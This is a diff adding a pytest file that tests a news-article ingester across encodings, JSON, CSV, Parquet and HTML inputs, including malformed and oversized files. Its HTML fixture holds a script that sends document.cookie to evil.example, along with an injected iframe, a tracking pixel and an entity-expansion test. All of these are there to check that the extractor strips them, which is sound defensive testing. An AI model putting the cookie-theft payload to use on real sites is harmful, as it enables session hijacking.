@@ -1,0 +1,382 @@
+"""Reading every input kind, and turning every kind of bad input into an ErrorRow."""
+
+import datetime as dt
+import gzip
+import json
+import time
+from pathlib import Path
+
+import pyarrow as pa
+import pyarrow.parquet as pq
+import pytest
+
+from govnews.errors import InputError
+from govnews.ingest import MAX_ARTICLE_CHARS, html_to_text, iter_articles, read_text
+from govnews.records import ErrorRow, RawArticle
+
+AR = "نظمت الأمانة العامة للمجلس التنفيذي بدبي ورشة تدريبية حول استخدام وسائل الإعلام الاجتماعي."
+EN = "The Institute of Public Administration presented a training course on social media."
+
+
+def _read(*paths, **options):
+    return list(iter_articles([str(p) for p in paths], **options))
+
+
+def _only(items):
+    assert len(items) == 1, items
+    return items[0]
+
+
+# ----------------------------------------------------------------------------- text encodings
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        AR.encode("utf-8"),
+        b"\xef\xbb\xbf" + AR.encode("utf-8"),
+        AR.encode("utf-16"),  # with its BOM, in the machine's byte order
+        b"\xff\xfe" + AR.encode("utf-16-le"),
+        b"\xfe\xff" + AR.encode("utf-16-be"),
+        AR.encode("cp1256"),
+    ],
+    ids=["utf8", "utf8-bom", "utf16", "utf16-le", "utf16-be", "windows-1256"],
+)
+def test_text_file_encodings_are_detected(tmp_path, data):
+    path = tmp_path / "release.txt"
+    path.write_bytes(data)
+    article = _only(_read(path))
+    assert isinstance(article, RawArticle)
+    assert article.text == AR
+    assert read_text(path) == AR
+
+
+def test_windows_1256_with_typographic_quotes_and_crlf(tmp_path):
+    text = "قال المدير: «نعمل على تطوير الخدمات» – وأضاف أن النتائج ممتازة.\r\nوام."
+    path = tmp_path / "legacy.txt"
+    path.write_bytes(text.encode("cp1256"))
+    assert read_text(path) == text.replace("\r\n", "\n")
+
+
+@pytest.mark.parametrize(
+    "data, kind",
+    [
+        (b"", "empty"),
+        (b" \n\t\r\n  \n", "empty"),
+        ("Grüße aus München, café crème à Genève".encode("latin-1"), "encoding"),
+        (b"\x00\x01\x02\x03binary\x00\xff" * 50, "binary"),
+        (bytes(range(1, 32)) * 40, "binary"),
+        (b"PK\x03\x04" + b"\x00" * 100, "binary"),
+        (b"\xef\xbb\xbf" + b"valid start \xff\xfe invalid", "encoding"),
+    ],
+    ids=["empty", "whitespace", "latin1", "nul-bytes", "control-chars", "zip-as-txt", "bad-utf8-after-bom"],
+)
+def test_unreadable_text_files_become_error_rows(tmp_path, data, kind):
+    bad = tmp_path / "bad.txt"
+    bad.write_bytes(data)
+    good = tmp_path / "good.txt"
+    good.write_text(AR, encoding="utf-8")
+    items = _read(tmp_path)
+    errors = [item for item in items if isinstance(item, ErrorRow)]
+    assert [e.kind for e in errors] == [kind]
+    assert errors[0].path == str(bad) and errors[0].message
+    assert [a.doc_id for a in items if isinstance(a, RawArticle)] == ["good"]
+    with pytest.raises(InputError):
+        read_text(bad)
+
+
+def test_utf8_cut_inside_its_last_character_keeps_the_rest(tmp_path):
+    path = tmp_path / "cut.txt"
+    path.write_bytes(AR.encode("utf-8")[:-1])
+    assert read_text(path) == AR[:-1]
+
+
+# ----------------------------------------------------------------------------- walking and ids
+
+
+def test_directory_walk_is_sorted_recursive_and_ids_are_relative_paths(tmp_path):
+    (tmp_path / "b").mkdir()
+    (tmp_path / "a" / "deep").mkdir(parents=True)
+    (tmp_path / "b" / "2.txt").write_text(AR, encoding="utf-8")
+    (tmp_path / "a" / "deep" / "1.htm").write_text(f"<p>{EN}</p>", encoding="utf-8")
+    (tmp_path / "a" / "0.txt").write_text(EN, encoding="utf-8")
+    (tmp_path / "a" / "logo.png").write_bytes(b"\x89PNG....")  # unknown suffix inside a folder: skipped
+    (tmp_path / ".hidden.txt").write_text(AR, encoding="utf-8")
+    items = _read(tmp_path)
+    assert [a.doc_id for a in items] == ["a/0", "a/deep/1", "b/2"]
+    assert all(isinstance(a, RawArticle) for a in items)
+
+
+def test_single_file_id_is_its_stem(tmp_path):
+    path = tmp_path / "004_877d04b3fde5af45.txt"
+    path.write_text(AR, encoding="utf-8")
+    assert _only(_read(path)).doc_id == "004_877d04b3fde5af45"
+
+
+def test_seed_corpus_reads_as_five_articles():
+    corpus = Path(__file__).resolve().parent.parent / "corpus"
+    items = _read(corpus)
+    assert [a.doc_id[:3] for a in items] == ["000", "001", "002", "003", "004"]
+    assert items[2].text.startswith("دبي- صوت الإمارات\n")
+
+
+def test_missing_path_raises_input_error(tmp_path):
+    with pytest.raises(InputError, match="no such file"):
+        iter_articles([tmp_path / "nowhere"])
+
+
+@pytest.mark.parametrize("name", ["batch.zip", "batch.tar", "batch.tar.gz", "notes.docx", "README"])
+def test_explicit_archive_or_unknown_file_is_unsupported(tmp_path, name):
+    path = tmp_path / name
+    path.write_bytes(b"PK\x03\x04 whatever")
+    error = _only(_read(path))
+    assert isinstance(error, ErrorRow) and error.kind == "unsupported"
+
+
+def test_archive_inside_a_folder_is_reported_not_ignored(tmp_path):
+    (tmp_path / "releases.zip").write_bytes(b"PK\x03\x04")
+    (tmp_path / "styles.css").write_text("p { color: red }")
+    error = _only(_read(tmp_path))
+    assert error.kind == "unsupported" and "unpack" in error.message
+
+
+# ----------------------------------------------------------------------------- JSON Lines
+
+
+def test_jsonl_fields_dates_and_extra(tmp_path):
+    rows = [
+        {"id": "wam-1", "text": AR, "title": "ورشة تدريبية", "lang": "AR", "date": "2014-09-17",
+         "url": "https://wam.ae/1", "source": "WAM", "section": "محليات"},
+        {"id": 2, "text": EN, "date": "2014-09-17T10:30:00Z"},
+        {"id": "3", "text": EN, "date": "17/09/2014"},
+    ]
+    path = tmp_path / "batch.jsonl"
+    path.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n", encoding="utf-8")
+    first, second, third = _read(path)
+    assert (first.doc_id, first.title, first.lang, first.published, first.url, first.source) == (
+        "wam-1", "ورشة تدريبية", "ar", dt.date(2014, 9, 17), "https://wam.ae/1", "WAM")
+    assert first.extra == {"section": "محليات"} and first.line == 1
+    assert (second.doc_id, second.published) == ("2", dt.date(2014, 9, 17))
+    assert third.published is None and third.extra == {"date": "17/09/2014"}  # kept, not guessed
+
+
+def test_jsonl_malformed_line_among_valid_ones(tmp_path):
+    lines = [json.dumps({"id": "a", "text": EN}), '{"id": "b", "text": "unterminated', "",
+             json.dumps([1, 2]), json.dumps({"id": "c"}), json.dumps({"text": EN}),
+             json.dumps({"id": "e", "text": "   "}), json.dumps({"id": "d", "text": AR})]
+    path = tmp_path / "mixed.jsonl"
+    path.write_text("\n".join(lines), encoding="utf-8")
+    items = _read(path)
+    assert [(type(i).__name__, getattr(i, "doc_id", None) or i.kind, i.line) for i in items] == [
+        ("RawArticle", "a", 1),
+        ("ErrorRow", "malformed", 2),
+        ("ErrorRow", "malformed", 4),
+        ("ErrorRow", "missing_field", 5),
+        ("ErrorRow", "missing_field", 6),
+        ("ErrorRow", "empty", 7),
+        ("RawArticle", "d", 8),
+    ]
+    assert "'text'" in items[3].message and "'id'" in items[4].message
+
+
+def test_jsonl_gz_and_truncated_gz(tmp_path):
+    body = "".join(json.dumps({"id": str(i), "text": AR}, ensure_ascii=False) + "\n" for i in range(200))
+    good = tmp_path / "good.jsonl.gz"
+    good.write_bytes(gzip.compress(body.encode("utf-8")))
+    assert len(_read(good)) == 200
+    cut = tmp_path / "cut.jsonl.gz"
+    cut.write_bytes(gzip.compress(body.encode("utf-8"))[:-40])
+    items = _read(cut)
+    assert isinstance(items[-1], ErrorRow) and items[-1].kind == "truncated"
+    assert all(isinstance(i, RawArticle) for i in items[:-1])
+
+
+def test_not_gzip_with_gz_suffix(tmp_path):
+    path = tmp_path / "fake.jsonl.gz"
+    path.write_text('{"id": "1", "text": "x"}')
+    assert _only(_read(path)).kind == "unreadable"
+
+
+def test_overlong_jsonl_line_is_skipped_and_the_next_line_is_read(tmp_path):
+    path = tmp_path / "huge.jsonl"
+    with open(path, "wb") as out:
+        out.write(b'{"id": "big", "text": "')
+        chunk = b"a" * (1 << 20)
+        for _ in range(4 * MAX_ARTICLE_CHARS // len(chunk) + 2):
+            out.write(chunk)
+        out.write(b'"}\n')
+        out.write(json.dumps({"id": "small", "text": EN}).encode() + b"\n")
+    error, article = _read(path)
+    assert (error.kind, error.line) == ("too_large", 1)
+    assert article.doc_id == "small"
+
+
+def test_200_mb_single_line_text_file_is_refused_quickly(tmp_path):
+    path = tmp_path / "hostile.txt"
+    with open(path, "wb") as out:  # sparse: 200 MB on paper, nothing written to disk
+        out.truncate(200 * 1024 * 1024)
+    start = time.perf_counter()
+    error = _only(_read(path))
+    assert error.kind == "too_large"
+    assert time.perf_counter() - start < 5  # a bound on the refusal, not a benchmark
+
+
+# ----------------------------------------------------------------------------- JSON arrays
+
+
+def test_json_array_with_mapped_fields_like_saudinewsnet(tmp_path):
+    records = [
+        {"source": "was", "url": "http://www.spa.gov.sa/1", "date_extracted": "2015-08-11 02:51:32",
+         "title": "عام / تعليم نجران", "author": "", "content": AR},
+        {"source": "sabq", "url": "http://sabq.org/2", "date_extracted": "2015-08-11 03:00:00", "content": ""},
+    ]
+    path = tmp_path / "2015-08-11.json.gz"
+    path.write_bytes(gzip.compress(json.dumps(records, ensure_ascii=False).encode("utf-8")))
+    article, error = _read(path, text_field="content", id_field="url")
+    assert (article.doc_id, article.text, article.source, article.published, article.line) == (
+        "http://www.spa.gov.sa/1", AR, "was", dt.date(2015, 8, 11), 0)
+    assert article.extra == {"author": ""}
+    assert (error.kind, error.line) == ("empty", 1)
+
+
+def test_large_json_array_streams_across_chunks(tmp_path):
+    records = [{"id": f"n{i}", "text": AR * 30} for i in range(600)]  # ~3 MB: several read chunks
+    path = tmp_path / "big.json"
+    path.write_text(json.dumps(records, ensure_ascii=False, indent=1), encoding="utf-8")
+    items = _read(path)
+    assert [a.doc_id for a in items] == [f"n{i}" for i in range(600)]
+
+
+@pytest.mark.parametrize(
+    "content, kind",
+    [
+        ('{"id": "1", "text": "x"}', "malformed"),
+        ("", "empty"),
+        ('[{"id": "1", "text": "نص"}, {"id": 2, "text": ', "malformed"),
+        ('[{"id": "1", "text": "نص"} {"id": "2"}]', "malformed"),
+        ("[]", None),
+    ],
+    ids=["object-not-array", "empty", "truncated", "missing-comma", "empty-array"],
+)
+def test_bad_json_files(tmp_path, content, kind):
+    path = tmp_path / "batch.json"
+    path.write_text(content, encoding="utf-8")
+    items = _read(path)
+    errors = [i for i in items if isinstance(i, ErrorRow)]
+    assert [e.kind for e in errors] == ([kind] if kind else [])
+    if content.startswith("[{"):
+        assert items[0].doc_id == "1"  # what came before the damage is kept
+
+
+def test_json_object_message_names_the_problem(tmp_path):
+    path = tmp_path / "one.json"
+    path.write_text('{"id": "1", "text": "x"}')
+    assert "expected a JSON array" in _only(_read(path)).message
+
+
+# ----------------------------------------------------------------------------- CSV and Parquet
+
+
+def test_csv_rows(tmp_path):
+    path = tmp_path / "releases.csv"
+    path.write_text('id,text,date,agency\nbna-1,"المنامة في 12 مارس / بنا / استقبل ولي العهد, اليوم.",2015-03-12,BNA\n'
+                    "bna-2,,2015-03-12,BNA\n", encoding="utf-8")
+    article, error = _read(path)
+    assert article.doc_id == "bna-1" and article.published == dt.date(2015, 3, 12)
+    assert article.text.endswith("ولي العهد, اليوم.") and article.extra == {"agency": "BNA"}
+    assert (error.kind, error.line) == ("missing_field", 3)
+
+
+def test_csv_in_windows_1256(tmp_path):
+    path = tmp_path / "legacy.csv"
+    path.write_bytes(f"id,text\n1,{AR}\n".encode("cp1256"))
+    assert _only(_read(path)).text == AR
+
+
+def test_parquet_rows(tmp_path):
+    path = tmp_path / "releases.parquet"
+    table = pa.table({"id": ["1", "2"], "text": [AR, None], "date": [dt.date(2014, 9, 17), None],
+                      "views": [10, 20]})
+    pq.write_table(table, path)
+    article, error = _read(path)
+    assert (article.doc_id, article.published, article.extra) == ("1", dt.date(2014, 9, 17), {"views": 10})
+    assert error.kind == "missing_field"
+
+
+def test_corrupt_parquet(tmp_path):
+    path = tmp_path / "broken.parquet"
+    path.write_bytes(b"PAR1 not really")
+    assert _only(_read(path)).kind == "unreadable"
+
+
+# ----------------------------------------------------------------------------- HTML
+
+HOSTILE_PAGE = """<!DOCTYPE html>
+<html lang="ar"><head><title>قمة الحكومات | سويفت نيوز</title>
+<meta property="article:published_time" content="2014-09-15T08:00:00+04:00">
+<meta property="og:site_name" content="سويفت نيوز">
+<link rel="canonical" href="https://swiftnews.example/summit">
+<script>window.location = "https://evil.example/?c=" + document.cookie;</script>
+<style>p { display: none }</style></head>
+<body>
+<header><nav><a href="/">الرئيسية</a> <a href="/tech">تكنولوجيا</a></nav></header>
+<iframe src="https://evil.example/frame"></iframe>
+<article>
+<h1>قمة الحكومات الخليجية الثالثة للتواصل الاجتماعي</h1>
+<img src="https://tracker.example/pixel.gif"><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB">
+<p>أعلنت الجهة المنظمة أن <b>القمة</b> ستقام في دبي يومي 17 و18 سبتمبر 2014.</p>
+<p>ومن المتوقع أن تجذب أكثر من 300 خبير.<br>وستقدم القمة 6 ورش عمل.</p>
+<div class="share-buttons"><a>فيسبوك</a> <a>تويتر</a></div>
+<div id="comments"><h3>اترك تعليقاً</h3><form><textarea></textarea></form></div>
+</article>
+<footer>جميع الحقوق محفوظة</footer>
+<script>alert(1)</script>
+</body></html>"""
+
+
+def test_html_main_text_title_date_and_meta(tmp_path):
+    path = tmp_path / "summit.html"
+    path.write_text(HOSTILE_PAGE, encoding="utf-8")
+    article = _only(_read(path))
+    assert article.title == "قمة الحكومات الخليجية الثالثة للتواصل الاجتماعي"
+    assert article.published == dt.date(2014, 9, 15)
+    assert (article.url, article.source, article.extra) == (
+        "https://swiftnews.example/summit", "سويفت نيوز", {"html_lang": "ar"})
+    assert article.text == (
+        "قمة الحكومات الخليجية الثالثة للتواصل الاجتماعي\n\n"
+        "أعلنت الجهة المنظمة أن القمة ستقام في دبي يومي 17 و18 سبتمبر 2014.\n\n"
+        "ومن المتوقع أن تجذب أكثر من 300 خبير.\n\nوستقدم القمة 6 ورش عمل."
+    )
+    for dropped in ("evil", "document.cookie", "alert", "data:", "الرئيسية", "اترك", "فيسبوك", "الحقوق", "display"):
+        assert dropped not in article.text
+
+
+def test_html_title_falls_back_to_title_tag_and_time_element():
+    page = html_to_text('<title>Press release</title><time datetime="2024-04-28">28 April</time><p>Body.</p>')
+    assert (page["title"], page["date"]) == ("Press release", "2024-04-28")
+
+
+def test_html_nested_10000_levels(tmp_path):
+    path = tmp_path / "deep.html"
+    path.write_text("<html><body>" + "<div>" * 10_000 + f"<p>{EN}</p>" + "</div>" * 10_000 + "</body></html>")
+    start = time.perf_counter()
+    article = _only(_read(path))
+    assert article.text == EN
+    assert time.perf_counter() - start < 10
+
+
+def test_html_entities_are_not_expanded_beyond_characters():
+    page = html_to_text('<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><p>&b; &amp; &lt;x&gt;</p>')
+    assert "aaaaaaaaaa" not in page["text"] and "& <x>" in page["text"]
+
+
+def test_html_in_windows_1256_with_meta_charset(tmp_path):
+    path = tmp_path / "old.htm"
+    path.write_bytes(f'<html><head><meta charset="windows-1256"></head><body><p>{AR}</p></body></html>'.encode("cp1256"))
+    assert _only(_read(path)).text == AR
+
+
+def test_html_without_text_is_empty(tmp_path):
+    path = tmp_path / "blank.html"
+    path.write_text("<html><body><script>var x = 1;</script><nav>Home</nav></body></html>")
+    assert _only(_read(path)).kind == "empty"
